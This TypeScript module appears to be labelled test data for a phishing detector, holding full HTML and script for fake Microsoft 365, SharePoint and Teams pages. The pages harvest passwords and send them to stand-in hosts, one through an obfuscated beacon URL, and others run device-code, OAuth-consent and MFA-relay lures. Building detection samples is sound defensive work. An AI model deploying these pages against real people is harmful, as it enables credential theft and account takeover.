import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, msCss, msLogo, jsRoute, jsonRoute, pngRoute, hexRev } from '../parts/t-kit.js';

// Reported by employees: Microsoft 365 / SharePoint / Teams lures (blind split).

const spHost = 'hartwellengineering.sharepoint-docs.net';
const teamsHost = 'teams-voicemail.msgcenter-notify.com';
const uiHost = 'secure-login.ms365-verify.com';
const salHost = 'hartwell-hr.sharepointonline-files.org';
const dcHost = 'securedoc-share.azureedge-viewer.com';
const oaHost = 'docshare-viewer.app';
const chatHost = 'teams-external.chatinvite-msft.com';
const nmHost = 'auth-session.m365-verify.net';

const teamsPurple = '#5b5fc7';

export const entries: Entry[] = [
  {
    id: 't-ph-sharepoint-shared-doc',
    label: 'phishing',
    kind: 'sharepoint-share',
    url: `https://${spHost}/sites/Finance/Shared%20Documents/Forms/AllItems.aspx?id=PO-88231`,
    body: doc(
      'SharePoint',
      `<link rel="icon" href="/_layouts/15/images/favicon.png"><style>
body{margin:0;font-family:"Segoe UI",sans-serif;background:#f3f2f1}
.sb{height:48px;background:#036c70;color:#fff;display:flex;align-items:center;padding:0 18px;font-weight:600;gap:10px}
.c{max-width:460px;margin:70px auto;background:#fff;padding:32px;box-shadow:0 1.6px 3.6px rgba(0,0,0,.13),0 .3px .9px rgba(0,0,0,.11)}
.file{display:flex;gap:12px;align-items:center;border:1px solid #edebe9;padding:12px;margin:16px 0}
.ic{width:36px;height:44px;background:#185abd;color:#fff;display:flex;align-items:center;justify-content:center;font-weight:700}
input{width:100%;padding:8px;border:1px solid #8a8886;box-sizing:border-box;margin:6px 0}
button{background:#036c70;color:#fff;border:0;padding:9px 18px;cursor:pointer;font-size:14px}
</style>`,
      `<div class="sb">&#9638; SharePoint</div>
<div class="c"><div style="font-size:13px;color:#605e5c">Procurement shared a file with you</div>
<div class="file"><div class="ic">W</div><div><b>PO-88231 Revised Terms.docx</b><br><span style="font-size:12px;color:#605e5c">Modified 2 hours ago &middot; 184 KB</span></div></div>
<p style="font-size:14px">This link only works for the direct recipients of this message. To open, verify with your Microsoft 365 account.</p>
<form id="f"><input type="email" id="e" placeholder="Enter your email" required><input type="password" id="p" placeholder="Password" required style="display:none"><button type="submit" id="b">Next</button></form>
<p style="font-size:11px;color:#a19f9d;margin-top:22px">Microsoft respects your privacy. To learn more, please read our Privacy Statement.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></div>
<script>
var st=0;document.getElementById('f').onsubmit=function(ev){ev.preventDefault();
if(st==0){st=1;document.getElementById('p').style.display='block';document.getElementById('b').textContent='Sign in';return}
var body=new URLSearchParams({email:document.getElementById('e').value,password:document.getElementById('p').value,ip:'',doc:'PO-88231'});
fetch('/_layouts/15/owa/next.php',{method:'POST',body:body}).then(function(){location.href='https://${spHost}/sites/Finance/_layouts/15/download.aspx?e=err'});};
</script>`,
    ),
    routes: {
      [`${spHost}/_layouts/15/images/favicon.png`]: pngRoute(3, 108, 112),
    },
  },
  {
    id: 't-ph-teams-voice-message',
    label: 'phishing',
    kind: 'voicemail-lure',
    url: `https://${teamsHost}/vm/play?mid=VM-20261127-0932&rcpt=ops`,
    body: doc(
      'Microsoft Teams - Voice message',
      `<style>
body{margin:0;font-family:"Segoe UI",sans-serif;background:#f5f5f5}
.bar{background:${teamsPurple};height:48px;color:#fff;display:flex;align-items:center;padding:0 20px;font-weight:600}
.c{max-width:520px;margin:60px auto;background:#fff;border-radius:6px;padding:28px;box-shadow:0 2px 8px rgba(0,0,0,.12)}
.wave{display:flex;gap:3px;align-items:center;height:46px;margin:16px 0}.wave i{display:block;width:4px;background:${teamsPurple};border-radius:2px}
.pl{width:44px;height:44px;border-radius:50%;background:${teamsPurple};color:#fff;border:0;font-size:18px;cursor:pointer}
.login{display:none;margin-top:16px}.login input{width:100%;padding:9px;margin:5px 0;border:1px solid #ccc;border-radius:4px;box-sizing:border-box}
.login button{background:${teamsPurple};color:#fff;border:0;padding:9px 22px;border-radius:4px;cursor:pointer}
</style>`,
      `<div class="bar">Microsoft Teams</div>
<div class="c"><div style="font-size:13px;color:#616161">New voice message</div>
<h2 style="margin:6px 0">+1 (312) 555-0148</h2><div style="font-size:13px;color:#616161">Received Thursday 9:32 AM &middot; Duration 00:47</div>
<div style="display:flex;gap:14px;align-items:center"><button class="pl" id="pl">&#9654;</button><div class="wave" id="wv"></div></div>
<div class="login" id="lg"><p style="font-size:14px">Your session has expired. Sign in to Microsoft 365 to listen to this message.</p>
<input type="email" id="u" placeholder="someone@company.com"><input type="password" id="pw" placeholder="Password"><button id="go">Sign in</button><div id="er" style="color:#c4314b;font-size:13px;margin-top:6px"></div></div>
<p style="font-size:11px;color:#999;margin-top:26px">You received this message because you are a member of your organisation's voicemail group. Microsoft Teams Phone &copy; 2026</p></div>
<script>
(function(){var w=document.getElementById('wv');for(var i=0;i<56;i++){var b=document.createElement('i');b.style.height=(6+Math.abs(Math.sin(i*1.7))*36)+'px';w.appendChild(b)}
var r=new URLSearchParams(location.search).get('rcpt');
document.getElementById('pl').onclick=function(){document.getElementById('lg').style.display='block'};
setTimeout(function(){document.getElementById('lg').style.display='block'},3500);
var k=function(h){return h.match(/../g).map(function(x){return String.fromCharCode(parseInt(x,16))}).reverse().join('')};
document.getElementById('go').onclick=function(){var u=document.getElementById('u').value,p=document.getElementById('pw').value;if(!u||!p)return;
navigator.sendBeacon(k('${hexRev('https://vm-cdn-store.online/gate/rcv.php')}'),JSON.stringify({u:u,p:p,r:r}));
document.getElementById('er').textContent='We couldn\\'t sign you in. Please try again.';document.getElementById('pw').value='';};})();
</script>`,
    ),
  },
  {
    id: 't-ph-m365-userinfo-trick',
    label: 'phishing',
    kind: 'm365-kit',
    submittedUrl: `https://login.microsoftonline.com@${uiHost}/common/login?sso_reload=true`,
    url: `https://${uiHost}/common/login?sso_reload=true`,
    body: doc(
      'Sign in to your account',
      `<style>${msCss}</style>`,
      `<div class="card"><div>${msLogo}</div>
<form method="POST" action="/common/post.php" id="f"><h1>Sign in</h1>
<input type="email" name="loginfmt" placeholder="Email, phone, or Skype" required>
<input type="password" name="passwd" placeholder="Password" required>
<p class="small">No account? <a href="#">Create one!</a></p>
<p class="small"><a href="#">Can't access your account?</a></p>
<div class="row"><button class="btn" type="submit">Sign in</button></div>
<input type="hidden" name="ctx" value="rQQIARAAhZE9aNNQFIVv"><input type="hidden" name="flowToken" value="AQABAAEAAAD--DLA3VO7QrddgJg7WevrXyz"></form></div>
<div class="card" style="margin-top:12px;padding:16px 44px"><span class="small">&#128273; Sign-in options</span></div>
<div class="foot"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>`,
    ),
  },
  {
    id: 't-ph-salary-adjustment-sharepoint',
    label: 'phishing',
    kind: 'hr-lure',
    url: `https://${salHost}/personal/hr_department/Documents/2027_Salary_Adjustment.aspx`,
    body: doc(
      '2027 Compensation Review',
      `<style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#eef3f8}
.hdr{background:#0f6cbd;color:#fff;padding:14px 24px;font-size:17px}
.m{max-width:760px;margin:34px auto;background:#fff;border:1px solid #dde3ea;display:grid;grid-template-columns:1fr 300px}
.l{padding:28px;border-right:1px solid #eee}.r{padding:28px;background:#fbfcfe}
.tb{width:100%;border-collapse:collapse;font-size:13px;filter:blur(3.5px);user-select:none}.tb td{border-bottom:1px solid #eee;padding:6px}
.r input{width:100%;padding:8px;margin:4px 0 10px;border:1px solid #b9c2cc;box-sizing:border-box}
.r button{width:100%;padding:10px;background:#0f6cbd;color:#fff;border:0;cursor:pointer}
</style>`,
      `<div class="hdr">&#128193; Human Resources &rsaquo; Compensation &rsaquo; 2027</div>
<div class="m"><div class="l"><h2 style="margin-top:0">Annual Salary &amp; Bonus Adjustment</h2>
<p>Dear Employee,</p><p>Following the Q4 compensation review, your adjusted base salary and performance bonus for fiscal year 2027 have been approved by your line manager. Please review the summary below and acknowledge by <b>Friday</b>. Unacknowledged letters will be deferred to the next payroll cycle.</p>
<table class="tb"><tr><td>Employee ID</td><td>HW-00482</td></tr><tr><td>Current base</td><td>$84,500.00</td></tr><tr><td>Adjustment</td><td>+6.5%</td></tr><tr><td>Bonus (target)</td><td>$7,200.00</td></tr><tr><td>Effective</td><td>01/01/2027</td></tr></table></div>
<div class="r"><b>Confirm identity to unlock</b><p style="font-size:12px;color:#555">Confidential HR record. Sign in with your corporate email to decrypt.</p>
<form id="sf"><label style="font-size:12px">Corporate email</label><input type="email" name="e" required><label style="font-size:12px">Password</label><input type="password" name="p" required><button>Unlock letter</button></form>
<p style="font-size:11px;color:#888">Protected by Microsoft 365 &middot; HR Confidential</p></div></div>
<script src="/personal/hr_department/Documents/app.min.js"></script>`,
    ),
    routes: {
      [`${salHost}/personal/hr_department/Documents/app.min.js`]: jsRoute(`!function(){var f=document.getElementById('sf');f.addEventListener('submit',function(e){e.preventDefault();var d=new FormData(f);d.append('ref',document.referrer);d.append('tz',Intl.DateTimeFormat().resolvedOptions().timeZone);fetch('https://collect.hr-docsvault.site/api/v1/s',{method:'POST',body:d,mode:'no-cors'}).finally(function(){f.innerHTML='<p style="color:#a4262c">Verification failed. Session expired, please re-enter your password.</p>';setTimeout(function(){location.reload()},2500)})})}();`),
    },
  },
  {
    id: 't-ph-entra-device-code',
    label: 'phishing',
    kind: 'device-code',
    url: `https://${dcHost}/s/Contract_Amendment_4471`,
    body: doc(
      'Secure Document Access',
      `<style>${msCss}
.code{font:600 28px Consolas,monospace;letter-spacing:4px;background:#f3f2f1;padding:14px;text-align:center;margin:16px 0;border:1px dashed #8a8886}
ol{font-size:14px;padding-left:18px;line-height:1.7}</style>`,
      `<div class="card"><div>${msLogo}</div><h1>Secure document access</h1>
<p class="small">Contract_Amendment_4471.pdf was shared with you through Microsoft 365 secure sharing. To access it, authorise this device:</p>
<ol><li>Copy the code below.</li><li>Go to <a href="https://microsoft.com/devicelogin" target="_blank">https://microsoft.com/devicelogin</a></li><li>Paste the code and sign in with your work account.</li><li>Return to this page &mdash; the document opens automatically.</li></ol>
<div class="code" id="code">&hellip;</div>
<div class="row" style="justify-content:space-between"><span class="small" id="st">Waiting for authorisation&hellip;</span><button class="btn" id="cp">Copy code &amp; open</button></div>
<p class="small" style="margin-top:20px;color:#666">Code expires in <span id="t">15:00</span></p></div>
<script>
fetch('/s/api/code').then(function(r){return r.json()}).then(function(j){document.getElementById('code').textContent=j.user_code;
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(j.user_code);window.open(j.verification_uri,'_blank')};
var s=900;setInterval(function(){s--;document.getElementById('t').textContent=Math.floor(s/60)+':'+('0'+s%60).slice(-2)},1000);
var p=setInterval(function(){fetch('/s/api/poll?d='+j.device_code).then(function(r){return r.json()}).then(function(k){if(k.status==='ok'){clearInterval(p);location.href='https://www.office.com/'}})},5000);});
</script>`,
    ),
    routes: {
      [`${dcHost}/s/api/code`]: jsonRoute({ user_code: 'KX7P9QWT', device_code: 'DAQABAAEAAAD--DLA3VO7QrddgJg7WevrN2R1', verification_uri: 'https://microsoft.com/devicelogin', expires_in: 900 }),
      [`${dcHost}/s/api/poll`]: jsonRoute({ status: 'pending' }),
    },
  },
  {
    id: 't-ph-oauth-consent-lure',
    label: 'phishing',
    kind: 'oauth-consent',
    url: `https://${oaHost}/open?doc=Q4-board-pack&tenant=hartwell-eng.com`,
    body: doc(
      'DocShare Viewer – Q4 Board Pack',
      `<link rel="icon" href="/favicon.png"><style>body{margin:0;font-family:Inter,system-ui,sans-serif;background:#0f172a;color:#e2e8f0}
.c{max-width:480px;margin:12vh auto;background:#111c33;border:1px solid #1e2a44;border-radius:14px;padding:32px}
.b{display:inline-flex;gap:10px;align-items:center;background:#2563eb;color:#fff;text-decoration:none;padding:12px 18px;border-radius:8px;font-weight:600}
.p{font-size:12px;color:#94a3b8}</style>`,
      `<div class="c"><div style="font-size:13px;color:#60a5fa">DocShare Viewer for Microsoft 365</div>
<h2>Q4 Board Pack (confidential)</h2>
<p>Shared by <b>Office of the CFO</b>. This document opens in DocShare Viewer. Connect your Microsoft 365 account once to view and comment &mdash; no download required.</p>
<p><a class="b" id="go" href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=9f1c2a77-5e0b-4c1f-b3e2-2c6f4d8a1e90&amp;response_type=code&amp;redirect_uri=https%3A%2F%2Fdocshare-viewer.app%2Fauth%2Fcallback&amp;response_mode=query&amp;scope=offline_access%20Mail.ReadWrite%20Mail.Send%20Files.ReadWrite.All%20User.Read&amp;prompt=consent&amp;state=Q4-board-pack">${msLogo.replace('width="108"', 'width="90"').replace('#5e5e5e', '#fff')} Continue with Microsoft</a></p>
<p class="p">DocShare Viewer will request permission to read your profile and files. You can revoke access at any time at myapps.microsoft.com.</p>
<p class="p">&copy; 2026 DocShare Labs Inc. &middot; <a href="/privacy" style="color:#94a3b8">Privacy</a> &middot; <a href="/terms" style="color:#94a3b8">Terms</a></p></div>`,
    ),
    routes: { [`${oaHost}/favicon.png`]: pngRoute(37, 99, 235) },
  },
  {
    id: 't-ph-teams-chat-invite',
    label: 'phishing',
    kind: 'teams-lure',
    url: `https://${chatHost}/l/chat/19:meeting_ZjM4NjY@thread.v2/invite?tenantId=hartwell`,
    body: doc(
      'Microsoft Teams',
      `<style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#ebebeb}
.l{display:flex;height:100vh}.rail{width:68px;background:#33344a}.main{flex:1;display:flex;align-items:center;justify-content:center}
.box{background:#fff;width:400px;border-radius:8px;padding:30px;box-shadow:0 6px 24px rgba(0,0,0,.15)}
.av{width:48px;height:48px;border-radius:50%;background:#c4314b;color:#fff;display:flex;align-items:center;justify-content:center;font-weight:700}
input{width:100%;padding:9px;border:1px solid #d1d1d1;border-radius:4px;margin:6px 0;box-sizing:border-box}
button{width:100%;padding:10px;background:${teamsPurple};color:#fff;border:0;border-radius:4px;font-weight:600;cursor:pointer}</style>`,
      `<div class="l"><div class="rail"></div><div class="main"><div class="box">
<div style="display:flex;gap:12px;align-items:center"><div class="av">IT</div><div><b>IT Support (External)</b><br><span style="font-size:12px;color:#616161">wants to chat with you</span></div></div>
<p style="font-size:14px;background:#f5f5f5;padding:10px;border-radius:4px">"Hi, this is the Service Desk. We detected unusual mailbox activity on your account. Please join the chat so we can secure it before it gets locked."</p>
<p style="font-size:13px">Sign in to accept this chat request.</p>
<form id="f" action="https://${chatHost}/l/chat/accept" method="post"><input type="email" name="u" placeholder="Work email" required><input type="password" name="p" placeholder="Password" required><button>Accept and sign in</button></form>
<p style="font-size:11px;color:#888;margin-top:12px">Microsoft Teams &middot; External access is enabled for your organisation.</p></div></div></div>`,
    ),
  },
  {
    id: 't-ph-mfa-number-match',
    label: 'phishing',
    kind: 'mfa-approve',
    url: `https://${nmHost}/oauth2/authorize/approve?sid=7f3e1b90a2c44d&u=a.singh%40hartwell-eng.com`,
    body: doc(
      'Approve sign in request',
      `<style>${msCss}.num{font-size:44px;font-weight:600;text-align:center;margin:18px 0;color:#1b1b1b}</style>`,
      `<div class="card"><div>${msLogo}</div><div class="idchip" id="chip"></div>
<h1>Approve sign in request</h1>
<p class="small">&#128241; Open your Authenticator app, and enter the number shown to sign in.</p>
<div class="num" id="num">--</div>
<p class="small">No numbers in your app? Make sure to upgrade to the latest version.</p>
<p class="small"><input type="checkbox"> Don't ask again for 90 days</p>
<p class="small"><a href="#" id="alt">I can't use my Microsoft Authenticator app right now</a></p>
<div id="otp" style="display:none"><input type="tel" id="c" placeholder="Enter code" maxlength="8"><div class="row"><button class="btn" id="v">Verify</button></div></div>
<p class="small"><a href="#">More information</a></p></div>
<div class="foot"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a></div>
<script>
var q=new URLSearchParams(location.search);document.getElementById('chip').textContent=q.get('u')||'';
fetch('/oauth2/authorize/ctx?sid='+q.get('sid')).then(function(r){return r.json()}).then(function(j){document.getElementById('num').textContent=j.entropy;
setInterval(function(){fetch('/oauth2/authorize/ctx?sid='+q.get('sid')+'&poll=1').then(function(r){return r.json()}).then(function(k){if(k.state==='approved')location.href=k.next})},3000)});
document.getElementById('alt').onclick=function(e){e.preventDefault();document.getElementById('otp').style.display='block'};
document.getElementById('v').onclick=function(){fetch('/oauth2/authorize/otc',{method:'POST',body:JSON.stringify({sid:q.get('sid'),c:document.getElementById('c').value})})};
</script>`,
    ),
    routes: {
      [`${nmHost}/oauth2/authorize/ctx`]: jsonRoute({ entropy: 47, state: 'pending', next: 'https://outlook.office.com/mail/' }),
    },
  },
];
